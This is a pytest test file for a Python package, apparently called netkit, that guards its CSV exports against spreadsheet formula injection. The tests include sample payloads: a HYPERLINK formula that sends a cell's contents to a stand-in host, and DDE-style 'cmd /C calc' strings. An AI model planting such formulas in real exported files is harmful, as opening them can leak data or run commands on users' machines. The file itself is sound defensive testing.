"""Cells a spreadsheet would run as a formula are written as text, numbers stay numbers, and
netkit's readers give back exactly what was typed (OWASP's CSV injection guidance)."""
from __future__ import annotations

import ast
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, strategies as st

from netkit.io.cells import FORMULA_START, restore_cell, restore_table, safe_cell, safe_table
from netkit.io.text import read_table
from netkit.reproduce import table_csv

ATTACKS = [
    "=SUM(A1:A9)",
    '=HYPERLINK("http://example.org/x?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "'=SUM(A1)",  # typed with its own apostrophe: still made safe, and still given back as typed
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_is_written_as_text(text):
    written = safe_cell(text)
    assert written == "'" + text
    assert written[0] not in FORMULA_START
    assert restore_cell(written) == text


@pytest.mark.parametrize("text", ["Ana", "O'Brien", "'Tis", "José García", "", "1 = 1", "a-b", "ana@example.org"])
def test_ordinary_text_is_written_as_it_is(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize("number", ["-0.2", "+5", "-1", "-1.5e-3", ".5", "-.5", "3."])
def test_text_that_is_a_plain_number_is_left_alone(number):
    """A spreadsheet reads these as numbers, not formulas: a yes/no or scale answer stored as text stays a number."""
    assert safe_cell(number) == number
    assert restore_cell(number) == number


@pytest.mark.parametrize("value", [-0.2, -3, np.float64(-0.2), np.int64(-7), None, np.nan, True, pd.Timestamp("2026-01-02")])
def test_values_that_are_not_text_are_never_changed(value):
    assert safe_cell(value) is value
    assert restore_cell(value) is value


@given(st.text())
def test_every_text_comes_back_as_typed(text):
    written = safe_cell(text)
    assert restore_cell(written) == text
    if written and written[0] in FORMULA_START:
        assert float(written) == float(written)  # only a plain number may start so


@given(st.text(alphabet="'=+-@\t\rab1.", max_size=6))
def test_the_rule_is_exact_around_apostrophes(text):
    assert restore_cell(safe_cell(text)) == text


def table():
    return pd.DataFrame({
        "alter_id": ["p001", "p002", "p003"],
        "name": ["=SUM(A1)", "Ana", "@bo"],
        "constraint": [-0.2, 0.5, np.nan],
        "size": pd.array([-1, 2, None], dtype="Int64"),
        "count": [-3, 4, 5],
        "label": pd.array(["+x", None, "y"], dtype="string"),
        "group": pd.Categorical(["-a", "b", "-a"]),
        "mixed": ["-0.2", -0.5, "=1"],
    })


def test_safe_table_changes_text_columns_only():
    before = table()
    out = safe_table(before)
    assert out["name"].tolist() == ["'=SUM(A1)", "Ana", "'@bo"]
    assert out["label"].tolist()[0] == "'+x" and pd.isna(out["label"].tolist()[1]) and out["label"].dtype == before["label"].dtype
    assert out["group"].tolist() == ["'-a", "b", "'-a"]
    assert out["mixed"].tolist() == ["-0.2", -0.5, "'=1"]  # a number in a text column stays a number
    for c in ("constraint", "size", "count"):
        pd.testing.assert_series_equal(out[c], before[c])
    pd.testing.assert_frame_equal(before, table())  # the input is not changed


def test_safe_table_returns_the_same_table_when_nothing_needs_a_change():
    t = pd.DataFrame({"name": ["Ana", "Bo"], "x": [-1.0, 2.0]})
    assert safe_table(t) is t


def test_column_names_are_made_safe_and_given_back():
    t = pd.DataFrame({"name": ["Ana"], "=cmd|' /C calc'!A0": ["x"], "score": [1]})
    out = safe_table(t)
    assert list(out.columns) == ["name", "'=cmd|' /C calc'!A0", "score"]
    assert list(restore_table(out).columns) == list(t.columns)


def test_table_csv_writes_negative_numbers_as_numbers_and_formulas_as_text():
    text = table_csv(table())
    lines = text.splitlines()
    assert lines[0] == "alter_id,name,constraint,size,count,label,group,mixed"
    assert lines[1] == "p001,'=SUM(A1),-0.2,-1,-3,'+x,'-a,-0.2"
    assert lines[2] == "p002,Ana,0.5,2,4,,b,-0.5"
    for line in lines[1:]:
        for cell in line.split(","):
            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell))


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_a_table_written_and_read_back_by_netkit_is_as_typed(tmp_path):
    names = ["=SUM(A1)", "'=x", "O'Brien", "-", "+44 20 7946 0000", "@ana", "Ana"]
    path = tmp_path / "t.csv"
    path.write_text(table_csv(pd.DataFrame({"name": names, "score": [-0.2] * len(names)})), encoding="utf-8")
    back, _ = read_table(path)
    back = restore_table(back)
    assert back["name"].tolist() == names
    assert back["score"].tolist() == ["-0.2"] * len(names)


# ---------------------------------------------------------------- the writers the lead wires up
# These check the kit end to end; each passes once its writer calls safe_cell / safe_table and its
# reader restore_table (see docs/formats.md, "Opening netkit's CSV files in a spreadsheet").
# strict: when a writer is wired up its test passes, and the marker must then go.



def test_the_workspace_writes_safe_cells_and_keeps_names_as_typed(tmp_path):
    from netkit.store import Workspace

    ws = Workspace("w", root=tmp_path)
    pid = ws.add_person("=SUM(A1)")
    ws.add_person("-Bo")
    text = (tmp_path / "w" / "alters.csv").read_text(encoding="utf-8")
    assert "'=SUM(A1)" in text and "'-Bo" in text
    assert ws.people().set_index("alter_id").loc[pid, "name"] == "=SUM(A1)"
    net = ws.network()
    assert sorted(net.alters["name"]) == ["-Bo", "=SUM(A1)"]


def test_netkit_folder_writes_safe_cells_and_reads_them_back(tmp_path):
    import netkit as nk

    alters = pd.DataFrame({"alter_id": ["a", "b"], "name": ["=1+1", "Ana"], "score": [-0.5, 0.5]})
    net = nk.EgoNetwork("e", {}, alters=alters, ties=pd.DataFrame({"source": ["a"], "target": ["b"]}))
    out = nk.write(net, tmp_path / "f")
    text = (out / "alters.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and "-0.5" in text and "'-0.5" not in text
    assert sorted(nk.read(out).alters["name"]) == ["=1+1", "Ana"]


# ---------------------------------------------------------------- every writer, found in the source

PACKAGE = Path(__file__).resolve().parents[1] / "netkit"
#: Functions that make CSV text that is never a file anyone opens (a fingerprint to compare).
NOT_WRITTEN = {("classroom.py", "_fingerprint")}


def csv_writers() -> list[tuple[str, str, str]]:
    """(file, function, its source) for every function in netkit that makes CSV text."""
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                body = ast.get_source_segment(text, node) or ""
                if re.search(r"\.to_csv\(|csv\.(?:writer|DictWriter)\(|\.to_excel\(", body) and not any(
                        isinstance(inner, (ast.FunctionDef, ast.AsyncFunctionDef)) and inner is not node
                        and re.search(r"\.to_csv\(|csv\.(?:writer|DictWriter)\(", ast.get_source_segment(text, inner) or "")
                        for inner in ast.walk(node)):
                    found.append((path.relative_to(PACKAGE).as_posix(), node.name, body))
    return found


def test_the_writers_are_found():
    names = {(f, n) for f, n, _ in csv_writers()}
    assert {("reproduce.py", "table_csv"), ("io/__init__.py", "_csv"), ("store.py", "_table_text")} <= names, names


@pytest.mark.parametrize("where, name, body", [w for w in csv_writers() if w[:2] not in NOT_WRITTEN
                                                 and w[:2] != ("reproduce.py", "table_csv")],
                         ids=lambda v: v if isinstance(v, str) and "\n" not in v else "")
def test_every_csv_writer_makes_its_cells_safe(where, name, body):
    """A new writer must go through table_csv (or safe_table / safe_cell) like the others."""
    assert re.search(r"safe_table|safe_cell|table_csv", body), \
        f"netkit/{where}: {name} writes CSV without netkit.io.cells.safe_table / reproduce.table_csv"
